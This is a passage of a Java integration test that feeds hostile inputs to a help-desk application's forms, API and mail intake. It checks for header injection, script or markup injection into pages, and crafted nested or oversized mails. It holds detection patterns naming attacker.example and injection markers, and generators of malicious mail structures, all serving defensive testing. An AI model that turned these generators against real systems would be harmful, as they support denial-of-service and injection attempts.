				.sql("select subject, to_address, array_to_string(cc_addresses, ',') as cc from mail_outbox where issue_key = ?")
				.param(key)
				.query()
				.listOfRows();
			for (Map<String, Object> mail : mails) {
				for (Object value : mail.values()) {
					assertThat(String.valueOf(value)).as("mail header").doesNotContain("\r", "\n", "\u2028", "\u2029");
				}
				assertThat(String.valueOf(mail.get("to_address")) + mail.get("cc")).doesNotContain("attacker.example")
					.doesNotContain("support@localhost");
			}
		};
	}

	private void assertAnswerForm(Case c, Response response, Expect expect) {
		switch (expect.form()) {
			case "problem" -> {
				assertThat(response.contentType()).as("%s: %s", c, abbreviate(response.body()))
					.startsWith("application/problem+json");
				JsonNode problem = JSON.readTree(response.body());
				assertThat(problem.get("type").asString()).as("%s", c).startsWith("urn:triage-desk:problem:");
				assertThat(problem.get("status").asInt()).as("%s", c).isEqualTo(expect.status());
			}
			case "html" -> {
				assertThat(response.contentType()).as("%s: %s", c, abbreviate(response.body())).startsWith("text/html");
				assertThat(injected(response.body())).as("%s: markup in the error page", c).isEmpty();
			}
			case "redirect" -> {
				String location = response.header("Location");
				assertThat(location).as("%s", c).isNotNull().doesNotContain("\r", "\n");
				// The page it leads back to shows the error.
				Response shown = visitor.send(Request.get(location.replaceFirst("^https?://[^/]+", "")));
				assertThat(shown.contentType()).as("%s", c).startsWith("text/html");
				assertThat(injected(shown.body())).as("%s: markup in the page", c).isEmpty();
				if (shown.status() != 404) {
					// A wrong token leads to the same page as an unknown key; otherwise the status page
					// shows why nothing was added.
					assertThat(shown.status()).as("%s", c).isEqualTo(200);
					assertThat(Jsoup.parse(shown.body()).select(".errors").text()).as("%s: the error shown", c).isNotBlank();
				}
			}
			default -> fail("unknown answer form " + expect.form());
		}
	}

	private record Created(String key, String token) {
	}

	private Created created(Case c, Response response) {
		if (c.web()) {
			assertThat(response.status()).as("%s: %s", c, abbreviate(response.body())).isEqualTo(302);
			Matcher m = Pattern.compile("/requests/(VSD-\\d+)\\?token=([^&]+)").matcher(String.valueOf(response.header("Location")));
			assertThat(m.find()).as("%s: redirected to the status page, not %s", c, response.header("Location")).isTrue();
			return new Created(m.group(1), URLDecoder.decode(m.group(2), StandardCharsets.UTF_8));
		}
		assertThat(response.status()).as("%s: %s", c, abbreviate(response.body())).isEqualTo(201);
		JsonNode body = JSON.readTree(response.body());
		assertThat(body.get("outcome").asString()).isEqualTo("ISSUE_CREATED");
		return new Created(body.get("issueKey").asString(), body.get("followUpToken").asString());
	}

	/**
	 * The reporter's status page and the staff dashboard show the issue with nothing that a browser
	 * would run or load.
	 */
	private void assertShownAsText(Case c, String key, String token) {
		if (token != null) {
			Response status = visitor(new Fixture()).send(Request.get("/requests/" + key + "?token=" + encode(token)));
			assertThat(status.status()).as("%s: status page", c).isEqualTo(200);
			assertThat(injected(status.body())).as("%s: markup on the status page", c).isEmpty();
		}
		Response dashboard = agent().send(Request.get("/dashboard/issues/" + key));
		assertThat(dashboard.status()).as("%s: dashboard page", c).isEqualTo(200);
		assertThat(injected(dashboard.body())).as("%s: markup on the dashboard", c).isEmpty();
		assertThat(leak(dashboard.body())).as("%s: dashboard", c).isEmpty();
	}

	/**
	 * Elements and attributes in a page that the page's own templates never produce: scripts without
	 * a source of this site, event handlers, javascript: links, frames, plug-ins, SVG, base and
	 * refresh.
	 */
	static List<String> injected(String html) {
		Document document = Jsoup.parse(html);
		List<String> found = new ArrayList<>();
		for (Element element : document.getAllElements()) {
			for (Attribute attribute : element.attributes()) {
				String name = attribute.getKey().toLowerCase(Locale.ROOT);
				String value = attribute.getValue().strip().toLowerCase(Locale.ROOT);
				if (name.startsWith("on") || value.startsWith("javascript:") || value.contains("attacker.example")) {
					found.add(element.cssSelector() + " " + name + "=" + value);
				}
			}
			switch (element.normalName()) {
				case "script" -> {
					if (!element.attr("src").startsWith("/")) {
						found.add("script " + abbreviate(element.outerHtml()));
					}
				}
				case "iframe", "frame", "frameset", "object", "embed", "applet", "svg", "math", "base" ->
					found.add(element.normalName());
				case "img" -> {
					if (!element.attr("src").startsWith("/")) {
						found.add("img " + element.attr("src"));
					}
				}
				case "meta" -> {
					if (element.hasAttr("http-equiv")) {
						found.add("meta " + element.attr("http-equiv"));
					}
				}
				default -> {
				}
			}
		}
		return found;
	}

	// ---- the fixture: what cases need at run time ----------------------------------------

	record Issue(String key, String token) {
	}

	final class Fixture {

		Issue issue;

		private Issue other;

		HostileInputCatalogueIntegrationTest test() {
			return HostileInputCatalogueIntegrationTest.this;
		}

		/** A fresh issue with its follow-up token, made before the case runs. */
		Issue issue() {
			if (issue == null) {
				issue = newIssue();
			}
			return issue;
		}

		Issue otherIssue() {
			if (other == null) {
				other = newIssue();
			}
			return other;
		}

		private Issue newIssue() {
			TestHttp.Response response = http.postJson("/api/v1/requests", request(r -> set(r, "reporter.email",
					"dev" + unique() + "@acme-shop.no")));
			assertThat(response.status()).isEqualTo(201);
			return new Issue(response.json().get("issueKey").asString(), response.json().get("followUpToken").asString());
		}

		String unique() {
			return SEQUENCE.incrementAndGet() + "-" + UUID.randomUUID().toString().substring(0, 8);
		}

		String readKey() {
			return keys.create("hostile-reader", Set.of(ApiScope.ISSUES_READ), "test").key();
		}

		Request ingest(byte[] raw) {
			return ingest("message/rfc822", raw);
		}

		Request ingest(String contentType, byte[] raw) {
			synchronized (HostileInputCatalogueIntegrationTest.class) {
				if (mailKey == null) {
					mailKey = keys.create("hostile-gateway", Set.of(ApiScope.MAIL_INGEST), "test").key();
				}
			}
			return Request.post("/api/v1/inbound-email", contentType, raw, "Authorization: Bearer " + mailKey);
		}

		/** A mail from a sender of its own (the per-sender flood limit stays out of the way). */
		byte[] mail(String subject, String contentType, String body, String... headers) {
			return build("dev" + unique() + "@acme-shop.no", subject, contentType, body, headers);
		}

		/** A mail whose Content-Type and body are given together, separated by an empty line. */
		byte[] mime(String subject, String typeAndBody) {
			int split = typeAndBody.indexOf("\r\n\r\n");
			return mail(subject, typeAndBody.substring(0, split), typeAndBody.substring(split + 4));
		}

		byte[] mailWithRawSubject(String subject, String contentType, String body) {
			return build("dev" + unique() + "@acme-shop.no", subject, contentType, body);
		}

		byte[] mailFrom(String name, String subject, String contentType, String body) {
			return build(name + " <dev" + unique() + "@acme-shop.no>", subject, contentType, body);
		}

		private byte[] build(String from, String subject, String contentType, String body, String... headers) {
			StringBuilder mail = new StringBuilder();
			mail.append("From: ").append(from).append("\r\nTo: support@localhost\r\nSubject: ").append(subject)
				.append("\r\nMessage-ID: <").append(unique()).append("@acme-shop.no>\r\nMIME-Version: 1.0\r\n")
				.append("Content-Type: ").append(contentType).append("\r\n");
			for (String header : headers) {
				mail.append(header).append("\r\n");
			}
			mail.append("\r\n").append(body).append("\r\n");
			return utf8(mail.toString());
		}

		// The public pages: a session with its CSRF token.

		Request csrf(Request request) {
			return request.with(visitorCsrfHeader + ": " + csrfToken());
		}

		String csrfToken() {
			visitor(this);
			return visitorCsrf;
		}

		Request send(Map<String, String> fields) {
			return csrf(Request.post("/requests", "application/x-www-form-urlencoded", form(fields)));
		}

		Request sendRaw(String body) {
			return csrf(Request.post("/requests", "application/x-www-form-urlencoded", utf8(body)));
		}

		Request sendMultipart(Map<String, String> fields, Consumer<Multipart> files) {
			Multipart all = new Multipart();
			fields.forEach((name, value) -> all.part(name, null, null, utf8(value)));
			files.accept(all);
			return csrf(Request.post("/requests", all.contentType(), all.bytes()));
		}

		Request check(Map<String, String> fields) {
			return csrf(Request.post("/check", "application/x-www-form-urlencoded", form(fields)));
		}

	}

	private RawHttp visitor(Fixture fixture) {
		synchronized (HostileInputCatalogueIntegrationTest.class) {
			if (visitor == null) {
				visitor = new RawHttp(port);
				Document page = Jsoup.parse(visitor.send(Request.get("/")).body());
				visitorCsrf = page.select("meta[name=_csrf]").attr("content");
				visitorCsrfHeader = page.select("meta[name=_csrf_header]").attr("content");
				assertThat(visitorCsrf).isNotBlank();
			}
			return visitor;
		}
	}

	private RawHttp agent() {
		synchronized (HostileInputCatalogueIntegrationTest.class) {
			if (agent == null) {
				String email = "hostile." + UUID.randomUUID().toString().substring(0, 8) + "@provider.example";
				String password = "correct horse battery staple";
				staff.create(email, "Hostile Tester", StaffUsers.Role.AGENT, password);
				agent = new RawHttp(port);
				String csrf = Jsoup.parse(agent.send(Request.get("/login")).body()).select("input[name=_csrf]").attr("value");
				Response login = agent.send(Request.post("/login", "application/x-www-form-urlencoded",
						form(Map.of("username", email, "password", password, "_csrf", csrf))));
				assertThat(login.header("Location")).doesNotContain("error");
			}
			return agent;
		}
	}

	// ---- request bodies ------------------------------------------------------------------

	/** A request that opens an issue, changed by {@code change}. */
	static String request(Consumer<ObjectNode> change) {
		ObjectNode request = JSON.createObjectNode();
		request.put("subject", SUBJECT);
		request.put("description", DESCRIPTION);
		ObjectNode reporter = request.putObject("reporter");
		reporter.put("name", "Kari Nordmann");
		reporter.put("email", "kari@shop.no");
		change.accept(request);
		return JSON.writeValueAsString(request);
	}

	/** Sets a field by its path ({@code reporter.name}); list fields get a one-element list. */
	private static void set(ObjectNode request, String path, String value) {
		switch (path) {
			case "cc", "occurredOn" -> request.putArray(path).add(value);
			default -> {
				int dot = path.indexOf('.');
				if (dot < 0) {
					request.put(path, value);
				}
				else {
					JsonNode parent = request.get(path.substring(0, dot));
					ObjectNode object = parent instanceof ObjectNode o ? o : request.putObject(path.substring(0, dot));
					object.put(path.substring(dot + 1), value);
				}
			}
		}
	}

	private static ArrayNode fill(ArrayNode array, int n, IntFunction<String> value) {
		for (int i = 0; i < n; i++) {
			array.add(value.apply(i));
		}
		return array;
	}

	private static Request postJson(String body) {
		return Request.post("/api/v1/requests", "application/json", body);
	}

	private static Request postBytes(byte[] body) {
		return Request.post("/api/v1/requests", "application/json", body);
	}

	private static Request multipart(Multipart body) {
		return Request.post("/api/v1/requests", body.contentType(), body.bytes());
	}

	private static Multipart withRequest(String json) {
		return new Multipart().json("request", json);
	}

	private static Request followJson(String key, String token, String body) {
		List<String> headers = token == null ? List.of() : List.of("Follow-Up-Token: " + token);
		return Request.post("/api/v1/issues/" + key + "/messages", "application/json", body,
				headers.toArray(String[]::new));
	}

	private static Request followMultipart(Fixture f, Multipart body) {
		return Request.post("/api/v1/issues/" + f.issue().key() + "/messages", body.contentType(), body.bytes(),
				"Follow-Up-Token: " + f.issue().token());
	}

	/** A HAR file with {@code entries} request/response pairs. */
	private static byte[] har(int entries) {
		String entry = "{\"request\":{\"method\":\"POST\",\"url\":\"https://apitest.vipps.no/epayment/v1/payments\","
				+ "\"headers\":[{\"name\":\"Content-Type\",\"value\":\"application/json\"}],\"postData\":{\"text\":"
				+ "\"{\\\"reference\\\":\\\"order-1\\\"}\"}},\"response\":{\"status\":400,\"headers\":[],\"content\":"
				+ "{\"text\":\"{\\\"title\\\":\\\"Bad Request\\\",\\\"detail\\\":\\\"" + "padding ".repeat(20) + "\\\"}\"}}}";
		return utf8("{\"log\":{\"version\":\"1.2\",\"entries\":["
				+ IntStream.range(0, entries).mapToObj(i -> entry).collect(Collectors.joining(",")) + "]}}");
	}

	/** A multipart mail nested {@code depth} deep with the text in the innermost part. */
	private static String nested(int depth) {
		StringBuilder open = new StringBuilder();
		StringBuilder close = new StringBuilder();
		for (int i = 0; i < depth; i++) {
			open.append("--b").append(i).append("\r\nContent-Type: ")
				.append(i == depth - 1 ? "text/plain\r\n\r\n" + DESCRIPTION + "\r\n"
						: "multipart/mixed; boundary=b" + (i + 1) + "\r\n\r\n");
			close.insert(0, "--b" + i + "--\r\n");
		}
		return "multipart/mixed; boundary=b0\r\n\r\n" + open + close;
	}

	/** A multipart mail with {@code n} small parts. */
	private static String manyParts(int n) {
		StringBuilder body = new StringBuilder();
		body.append("--p\r\nContent-Type: text/plain\r\n\r\n").append(DESCRIPTION).append("\r\n");
		for (int i = 1; i < n; i++) {
			body.append("--p\r\nContent-Type: text/plain\r\nContent-Disposition: attachment; filename=\"f").append(i)
				.append(".txt\"\r\n\r\nline ").append(i).append("\r\n");
		}
		body.append("--p--");
		return "multipart/mixed; boundary=p\r\n\r\n" + body;
	}

	/** A mail forwarded {@code depth} times, each inside the last. */
	private static String forwarded(int depth) {
		String inner = "From: a@shop.no\r\nSubject: inner\r\nContent-Type: text/plain\r\n\r\n" + DESCRIPTION + "\r\n";
		for (int i = 0; i < depth; i++) {
			inner = "From: a@shop.no\r\nSubject: Fwd " + i + "\r\nContent-Type: message/rfc822\r\n\r\n" + inner;
		}
		return "message/rfc822\r\n\r\n" + inner;
	}

	private static String attachment(String filename, String contentType, String base64) {
		return "multipart/mixed; boundary=a\r\n\r\n--a\r\nContent-Type: text/plain\r\n\r\n" + DESCRIPTION
				+ "\r\n--a\r\nContent-Type: " + contentType + "\r\nContent-Disposition: attachment; filename=\"" + filename
				+ "\"\r\nContent-Transfer-Encoding: base64\r\n\r\n" + base64 + "\r\n--a--";
	}

	private static byte[] form(Map<String, String> fields) {
		return utf8(fields.entrySet()
			.stream()
			.map(e -> encode(e.getKey()) + "=" + encode(e.getValue()))
			.collect(Collectors.joining("&")));
	}

	// ---- small helpers -------------------------------------------------------------------

	private Map<String, Long> counts() {
		Map<String, Long> counts = new LinkedHashMap<>();
		TABLES.forEach(table -> counts.put(table, count(table)));
		return counts;
	}

	private static Map<String, Long> delta(Map<String, Long> before, Map<String, Long> after) {
		Map<String, Long> changed = new LinkedHashMap<>();
		before.forEach((table, n) -> {
			long d = after.get(table) - n;
			if (d != 0) {
				changed.put(table, d);
			}
		});
		return changed;
	}

	private static synchronized void tally(Case c, Response response, Map<String, Long> changed, String body) {
		tried++;
		STATUSES.merge(response.status(), 1, Integer::sum);
		OUTCOMES.merge(c.expect().outcome().name(), 1, Integer::sum);
		if (response.status() >= 500) {
			serverErrors++;
		}
		if (!leak(body).isEmpty()) {
			leaks++;
		}
		if (c.expect().outcome() == Outcome.REFUSED && !changed.isEmpty()) {
			strayRows++;
		}
		ROWS.add(response.status() + " | " + c + (changed.isEmpty() ? "" : " | stored " + changed));
	}

	private static String leak(String text) {
		Matcher m = LEAK.matcher(text);
		return m.find() ? m.group() : "";
	}

	private static String snake(String field) {
		return field.replaceAll("([A-Z])", "_$1").toLowerCase(Locale.ROOT);
	}

	private static String encode(String value) {
		return URLEncoder.encode(value, StandardCharsets.UTF_8);
	}

	private static byte[] utf8(String text) {
		return text.getBytes(StandardCharsets.UTF_8);
	}

	private static byte[] concat(byte[] a, byte[] b) {
		byte[] all = Arrays.copyOf(a, a.length + b.length);
		System.arraycopy(b, 0, all, a.length, b.length);
		return all;
	}

	/** The JSON with its first {@code marker} replaced by raw bytes. */
	private static byte[] replace(String json, String marker, byte[] bytes) {
		int at = json.indexOf(marker);
		ByteArrayOutputStream out = new ByteArrayOutputStream();
		out.writeBytes(utf8(json.substring(0, at)));
		out.writeBytes(bytes);
		out.writeBytes(utf8(json.substring(at + marker.length())));
		return out.toByteArray();
	}

	private static String printable(String text) {
		return text.replace("\r", "\\r").replace("\n", "\\n").replace("\t", "\\t").replace("\u0000", "\\0")
			.codePoints()
			.mapToObj(c -> Character.getType(c) == Character.FORMAT ? String.format("\\u%04X", c) : Character.toString(c))
			.collect(Collectors.joining());
	}

	private static String abbreviate(String text) {
		return text.length() <= 300 ? text : text.substring(0, 300) + "…";
	}

}
